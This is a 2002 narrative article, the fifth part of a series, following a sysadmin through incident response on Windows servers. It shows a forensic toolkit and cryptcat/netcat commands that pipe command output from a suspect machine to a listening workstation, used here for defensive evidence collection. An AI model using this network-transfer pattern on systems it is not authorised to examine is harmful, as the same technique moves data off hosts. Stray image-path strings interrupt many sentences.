Endpoint Protection

 View Only

No Stone Unturned, Part Five

Jun 25, 2002 02:00 AM

by H. Carvey

No Stone Unturned, Part Five
by H. Carvey
last updated June 25, 2002


This is the fifth and final installment of a five-part series describing the (mis)adventures of a sysadmin named Eliot and his haphazard journey in discovering "The Way" of incident response. As we left off last time, Eliot had started putting together a toolkit to help with incident response and analysis. He had had an opportunity to give the kit a quick test and had been satisfied with the results, but the toolkit was not quite finished.

Part Five

Eliot rubbed his eyes. Staring at the computer screen for too long, especially when looking at plain text for an extended period, tired his eyes and gave him a headache. Of all the times to ingest caffeine in any form, this was most definitely not one of them. Sure he'd get the rush, the increased heart rate, the burst of energy, and the creative, intuitive surge that came with it. But he'd also exacerbate his headache, making things much worse as he came down off of that artificial but oh-so-familiar high.

What was he looking for again? Better yet, what was he looking at? Stare at something long enough, he thought, and you lose track of your objective, time...everything. Then he remembered, he was looking at text logs from an FTP server. A friend of his, another admin, had sent him a zipped archive of the logs from his FTP server, asking Eliot to take a look at them. It seems that they'd started having trouble with the system, and found that not only were response times to the system being severely degraded, but they'd suddenly lost of six gigabytes of drive space. A closerlook at the files, buried in a directory structure under the word "tagged", showed that they were portions of piratedmovies. Unfortunately, Eliot's friend hadn't sent any of those movies, just the log files.

Eliot was going through the files by date, starting with the most recent one. The more recent log files were considerably larger than the older ones, due to the fact that they showed the activity of all the people who had logged into the server to download the files. This was most likely the cause of the degradation of service: with so many people accessing the server and retrieving these huge files, Eliot was surprised that it had taken almost ten days for anyone to report the problem. It was easy to find the first day, when the original person logged into the server - it could have been a script - and created the directory structure. In fact, Eliot was pretty sure it was a script, judging by the fact that the commands appeared on the server far too quickly to have been typed by hand.

As Eliot went further and further back, one log file at a time, he could see the activity where the normal users logged in, but he could also see where someone had been scanning for vulnerable servers. It was always the same activity, though from different IP addresses. The scan would log in using the anonymous account, send "ie@user" as the password, then create and then delete a directory. The response codes from these commands showed that they had succeeded, indicating that the FTP server was configured to allow anonymous users the ability to write to the drive. Thiswas extremely distressing: it meant that the system hadn't been "hacked", but that the admins had been careless.

Eliot's headache threatened to split his head in half at the thought of telling his friend what he'd found. But there it was, the facts spoke for themselves. There was just no way around it.

Over the past several days, Eliot had made great strides in pulling together his personal administrator's toolkit. His primary focus had been to find tools that would extract information from systems that were potentially compromised. After reading several Web sites and reviewing public lists about forensics, Eliot had figured that it would be best to copy all of his tools to a CD. This would prevent them from being altered or infected with a virus from the "victim" system. Surprisingly, as he was gathering his tools, Eliot came to a realization. He was trying to find tools to help him pull information from Windows systems, but he was finding that the most suitable tools were command line tools - they didn't have a graphical user interface. The GUI tools were great, but the only way to save theinformation they displayed was to either copy it by hand, or save it to a file. Saving the information to a file would alter the environment that he was trying to investigate. Not even screen captures would work: some of the tools displayed a lot of information, with the associated scrollbars, and the capture would have to be saved someplace on the victim system.

Eliot had read an article that showed how to use the program netcat to copy information from a Solaris system to another computer on the network, where that information was saved. He'd tried the same techniques on NT and 2K systems, and found that they worked rather well. However, they only worked with command line tools, ones that wrote their results to standard output (STDOUT). Eliot had run several successful tests, not onlysending the output of commands from one system to another, but also copying files without having to log into the remote system and map a drive.

One concern that Eliot had early on in his testing was the fact that he was sending this information to another system in plain text. He'd assumed this, and then downloaded and installed Ethereal onto a 2K system and verified it. Ethereal did a great job of capturing packets, and also had a feature that allowed him to select a packet in the capture, and then reassemble the entire stream. He'd thought that if one system on the network had been compromised, others might have been as well. At the very least, he needed a way to encrypt the data as it went across the network.

He'd found the solution at an obscure site called Farm9 Intrusion Prevention, Detection, and Response. These guys had taken the source code for netcat and added encryption to it. It was essentially the same program as netcat, with Blowfish encryption added. The program was called cryptcat. By renaming the program to "cc", Eliot could simply replace the "nc" for netcat in all his commands. Setting up the server became:

 c:\>cc -L -p 7070 > c:\securedata\netstat.logSending the output from netstat -an, when running the command from the CD-ROM drive on the "victim" system, to the forensics workstation became:

 d:\>netstat -an | cc 7070

Using tools like netstat.exe from a "clean" system, fport.exe from FoundStone, and handle.exe, listdlls.exe, pslist.exe, and psinfo.exe from SysInternals, Eliot could collect a great deal of information from a system. One thing he'd found, though, was that these five tools, as useful as they were, provided a lot of information - almost too much. Handle.exe gave all the handles a process had open: files, events, threads,everything. Not only that, but the tool provided the user context in which the process was executing. Listdlls.exe provided not only the DLLs the process depended on, but also the command line used to launch the process. Pslist.exe provided a listing of all processes, and fport.exe provided a process-to-port mapping. Eliot found that for NT and 2K systems, these tools provided a pretty comprehensive view of what was happening on a system. The challenge was to manage all of the information that these tools created. At first, Eliot had printed out the information and laid the papers out on a table, and went through the pages one process at a time, but there had to be a better way. A quicker way.

After quite a bit of searching, Eliot found what he was looking for. He came across a Perl script called procdmp.pl that did exactly what he wanted, it correlated and consolidated the data from these five tools. The script created an HTML file containing a listing of each process, with the user context, command line, open files, and open ports and connections of each process in a nice, neat table. By running this script against the output he collected from the tools, Eliot could quickly and easily determine if there were any suspicious processes running on the system. If there were, he'dhave a consolidated listing of the necessary information to make a decision about what to do next. If he needed more information, well, he had the output files to refer to.

He'd used the Perl script several times in determining what was happening on a system. He'd initially redirected the output of the tools that he'd burned to CD to files on a diskette, but then later used netcat and cryptcat to get the data off of the "victim" system. Once he'd run the procdmp.pl script and had the information he needed, he'd had plenty of hard data to help him decide what to do next.

In most cases, the issues were fairly innocuous, spyware or foistware (software that surreptitiously installs hidden components on the unwitting user's system) installed when a user loaded some other program on their system. One he'd found was called WebHancer. A Web search showed that this little beauty would monitor the Web pages that the user visited, and recorded the pages the user requested, as well as how long it took the page to download. That same search told him that he couldn't simply uninstall the software, because it somehow messed with the DLL that allowed Windows computers to access networks. Eliot barely understood this, since he was more of a scripter than a programmer, but the hairs on the back of his neck stood on end when he read this information. Fortunately, when he read on, he found that a program called AdAware can detect and remove this program, as well as several others. AdAware seemed to be updated fairly frequently, to keep upwith new bits of spyware, so Eliot didn't burn this one to CD. He kept the latest copy of the installation program and updated reference file in a directory, and simply copied them to diskette when he needed to use them.

Things had been pretty quiet, giving Eliot time to add to his toolkit. He found useful utilities in the Resource Kit for Windows 2000 from Dynawell Web services. Auditpol.exe allowed an administrator to manage the audit configuration on a system, and verify those settings later. Eliot found it useful to run the command to determine which events were being audited on the system. Drivers.exe provided a list of installed drivers on the system. Local.exe enumerated local users on the system and global.exe enumerated the global users. Eldump.exe dumped EventLog entries to the screen. Diruse.exe provided a listing of the disk usage for a directory tree. Pulist.exe enumerated the processes and the user context under which they ran. There was one tool that Eliot found extremely useful, whoami.exe. This tool would display the context and privileges of the user logged into the system. With this information, Eliot could get an idea whether the user had escalated his privileges, or added privileges such as "act as part of the operating system."

He found other useful tools at the SysInternals site, such as psinfo.exe, psservice.exe, psloglist.exe, autoruns.exe and strings.exe. The FoundStone site provided utilities for looking at systems and files, such as bintext.exe, afind.exe and sfind.exe. Lads.exe from HeySoft.de was the best tool for detecting and enumerating NTFS alternate data streams that Eliot had found so far.

With these tools on a CD, Eliot felt that he was ready for just about anything. He also felt more than a little confident about his abilities, given how quickly he'd resolved issues he's already run across. That's exactly how he felt when he got a call from an admin bythe name of Elizabeth. Elizabeth did system administration work for HR, and worked with Cynthia. Mostly, she did helpdesk sorts of things, but she also managed the HR portion of the company intranet. Over the past couple of months, the HR site had grown from a simple contact list with phone numbers to a complete site containing policies, forms, links to the sites that hosted various benefits, everything HR had available could be accessed or downloaded if an employee couldn't make it into the main office. Eliot had worked with Elizabeth in the past, but hadn't seen her much since the HR content had been moved to it's own internal Web server, which was now part of Elizabeth's duties to manage.

Elizabeth had told him that she'd seen something strange on the Web server. When Eliot pressed her for more information, she'd said that she'd seen an unusual entry in the Security EventLogs on the system. It seems she'd enabled auditing for Process Tracking, checking the boxes for both successful and failed events, in order to troubleshoot a problem she was having. After she'd figured out what was going on, she'd forgotten to disable the settings. However, yesterday she'd looked at the entries in the Security EventLog and found an event ID of 592 that she didn't recognize. The data for the entry contained the text:

 A new process has been created: New Process ID:    2162584928 Image File Name: \Inetpub\Scripts\lb.exe Creator Process ID: 2223771680 User Name:   IUSR_HRWEB

Elizabeth said that the file listed in the EventLog entry was still on the system. She'd run a "dir" command to confirm it. However, she hadn't taken any further actions, and had opted to call Eliot instead. Eliot locked his workstation, grabbed his CD of tools and a couple of diskettes, and headed to Elizabeth's office.

When he got to Elizabeth'soffice, the door was ajar, so he knocked and pushed it open.

"Hey, Beth."

"Eliot! Glad you were free. I didn't want to do anything with the server until you had a chance to take a look at it," she said.

"Thanks, I appreciate it."

Her office was a small room with a desk, her laptop, and a row of three servers along one wall. There wasn't a lot of room, andEliot had to sit on the edge of her desk just to get close to the servers.

"Which one is it?" Eliot asked.

"The one on the right, with the HRWEB sticker on it," she replied.

The command prompt was still open on the screen for the system. Elizabeth had beencompletely accurate in what she'd said. She'd left the system exactly as it was when she'd confirmed the existence of the suspicious file. The Event Viewer was still minimized on the Task Bar.

What to do, Eliot thought? He hadn't faced a situation like this one before. Fortunately, the HR Web server wasn't a critical system, and could be taken down and reloaded, if necessary. But formatting the drive and reinstalling everything from CD, installing service packs and patches, and then all of the content could take a while. Eliot wanted to avoid that sort of thing, if possible. If he could show that this wasn't a system-level compromise (one in which administrator, or greater, access had been obtained by an external intruder), he could save Elizabeth a considerable amount of time.

He opened the Event Viewer and looked at the entries. He found the entry that Elizabeth had told him about, as well as two others that showed processes had been created. One mentioned a file called "Statistics.exe", located in the directory "c:\program files\winnt\manual". The other was called "teamscan32.exe" and was located in the same directory. Unfortunately, Eliot had no wayof knowing which events that stated that a "process had been exited" applied to which of the processed that had been created. However, all three of the processes had been created under the username "IUSR_HRWEB", which, if he remembered correctly, was an account with about the same privileges as the Guest account. He was relievedto see that none of them had been created under the Administrator or System accounts.

Eliot figured it was about time to use the tools he'd collected. He put the CD in the drive, and changed to the drive in the command prompt. The first thing he did was run pslist.exe to get a listing of the processes currently running on the server. He saw "statistics" running with a PID of 1040, but didn't see the other two processes. He also ran fport.exe, "netstat -an" (he'd been sure to copy netstat.exe to the CD), pulist.exe, and listdlls.exe. First, he ran the commands to see what they'd show, and then reran them, redirecting their output to files on the diskettes. Since the Security EventLogs contained some useful information, he used psloglist.exe from SysInternals to copy the contents ofthe logs to diskette. He also copied the Web server logs for the day the event occurred to diskette, and ran a series of 'dir' commands on the Winnt subdirectory in 'Program Files' to preserve the MAC times of the files anddirectories:

 dir /tc /s "c:\program files\winnt" > a:\create.txt dir /ta /s "c:\program files\winnt" > a:\access.txt dir /tw /s "c:\program files\winnt" > a:\written.txt

On a whim, Eliot decided to see if there was an entry for "statistics.exe" in Registry. He used reg.exe from Microsoft to enumerate the contents of the "Run" key. To his surprise, he found exactly what he was looking for, an entry that pointed to "statistics.exe", launching it on system startup. He then ran keytime and foundthat the last time the Registry key had been modified coincided with the time the process called "lb.exe" was created.

